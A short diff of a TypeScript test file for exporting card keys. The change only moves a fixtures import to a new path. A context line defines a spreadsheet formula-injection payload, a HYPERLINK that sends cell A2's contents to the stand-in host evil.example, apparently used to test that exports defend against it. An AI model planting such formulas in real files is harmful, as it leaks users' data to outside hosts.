@@ -8,7 +8,7 @@ import { CardKey } from '../../server/models/index.js';
 import { writeCardKeyExport } from '../../server/services/cardKeys/exportCardKeys.js';
 import { generateCardKeys } from '../../server/services/cardKeys/generateCardKeys.js';
 import { startTestServer, type TestServer } from '../support/http.js';
-import { clientFor, makeWorld, recharge, type World } from '../cardKeys/fixtures.js';
+import { clientFor, makeWorld, recharge, type World } from '../support/cardKeys.js';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
 
